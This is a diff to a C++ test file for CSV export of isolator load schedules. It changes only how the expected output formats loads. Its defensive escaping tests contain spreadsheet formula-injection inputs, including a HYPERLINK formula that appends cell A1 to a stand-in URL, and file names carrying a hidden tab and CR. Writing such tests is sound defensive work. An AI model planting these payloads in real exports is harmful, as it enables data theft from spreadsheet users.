@@ -22,18 +22,18 @@ TEST(ScheduleCsv, HandWorkedScheduleByteForByteWhateverTheStreamLocale) {
     writeScheduleCsv(out, handWorkedSchedule());
     EXPECT_EQ(out.str(),
               "type,isolators,smallest,largest (design load),mean,spread,largest above mean %\r\n"
-              "1,2,640,980,810.00,340.00,21.0\r\n"
-              "2,3,980,1250.5,1110.17,270.50,12.6\r\n"
-              "3,2,1250.5,2010,1630.25,759.50,23.3\r\n"
+              "1,2,640.0,980.0,810.00,340.00,21.0\r\n"
+              "2,3,980.0,1250.5,1110.17,270.50,12.6\r\n"
+              "3,2,1250.5,2010.0,1630.25,759.50,23.3\r\n"
               "\r\n"
               "line,load,type,label\r\n"
               "2,1250.5,2,axis B/4\r\n"
-              "3,980,1,\"column C, north\"\r\n"
+              "3,980.0,1,\"column C, north\"\r\n"
               "5,1250.5,3,\"pier \"\"P7\"\"\"\r\n"
-              "6,640,1,S\xC3\xA4ule \xC3\x84/3\r\n"
-              "7,1100,2,\r\n"
-              "9,980,2,corner A/1\r\n"
-              "10,2010,3,\"core wall, \"\"east\"\"\"\r\n");
+              "6,640.0,1,S\xC3\xA4ule \xC3\x84/3\r\n"
+              "7,1100.0,2,\r\n"
+              "9,980.0,2,corner A/1\r\n"
+              "10,2010.0,3,\"core wall, \"\"east\"\"\"\r\n");
 }
 
 TEST(ScheduleCsv, EveryLabelReadsBackWithAStrictReader) {
@@ -87,15 +87,15 @@ TEST(ScheduleCsv, TextThatASpreadsheetWouldTakeAsAFormulaStaysTextAndFiguresStay
     EXPECT_EQ(out.str(),
               "type,isolators,smallest,largest (design load),mean,spread,largest above mean %\r\n"
               "1,1,-42.5,-42.5,-42.50,0.00,\r\n"
-              "2,5,10,50,30.00,40.00,66.7\r\n"
+              "2,5,10.0,50.0,30.00,40.00,66.7\r\n"
               "\r\n"
               "line,load,type,label\r\n"
               "1,-42.5,1,\"'-2+3\"\r\n"
-              "2,10,2,\"'+1+1\"\r\n"
-              "3,20,2,\"'@SUM(1,2)\"\r\n"
-              "4,30,2,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\"\r\n"
-              "5,40,2,\"'s-Hertogenbosch\"\r\n"
-              "6,50,2,a=b+1 -2\r\n");
+              "2,10.0,2,\"'+1+1\"\r\n"
+              "3,20.0,2,\"'@SUM(1,2)\"\r\n"
+              "4,30.0,2,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\"\r\n"
+              "5,40.0,2,\"'s-Hertogenbosch\"\r\n"
+              "6,50.0,2,a=b+1 -2\r\n");
 
     // The data file's name is text from outside too; a spreadsheet may drop a
     // leading tab or CR and read the formula behind it.
@@ -107,9 +107,9 @@ TEST(ScheduleCsv, TextThatASpreadsheetWouldTakeAsAFormulaStaysTextAndFiguresStay
     writeSummaryCsvRows(summary, run);
     EXPECT_EQ(summary.str(),
               "\"'-tower.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50\r\n"
-              "\"'-tower.DAT\",Method2,2,ok,12.50,2,5,10,50,30.00\r\n"
+              "\"'-tower.DAT\",Method2,2,ok,12.50,2,5,10.0,50.0,30.00\r\n"
               "\"'\ttower\r.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50\r\n"
-              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,2,5,10,50,30.00\r\n");
+              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,2,5,10.0,50.0,30.00\r\n");
 }
 
 TEST(SummaryCsv, OneRowPerTypeAndOnePerSetNotReached) {
@@ -132,9 +132,9 @@ TEST(SummaryCsv, OneRowPerTypeAndOnePerSetNotReached) {
     EXPECT_EQ(out.str(),
               "data file,technique,type count,status,pooled variance,type,isolators,smallest,"
               "largest,mean\r\n"
-              "\"hall, west.DAT\",Method 1,1,ok,153785.36,1,7,640,2010,1173.00\r\n"
-              "\"hall, west.DAT\",Method 1,2,ok,,1,4,640,1100,925.00\r\n"
-              "\"hall, west.DAT\",Method 1,2,ok,,2,3,1250.5,2010,1503.67\r\n"
+              "\"hall, west.DAT\",Method 1,1,ok,153785.36,1,7,640.0,2010.0,1173.00\r\n"
+              "\"hall, west.DAT\",Method 1,2,ok,,1,4,640.0,1100.0,925.00\r\n"
+              "\"hall, west.DAT\",Method 1,2,ok,,2,3,1250.5,2010.0,1503.67\r\n"
               "\"hall, west.DAT\",Method 1,3,not reached,,,,,,\r\n");
 }
 
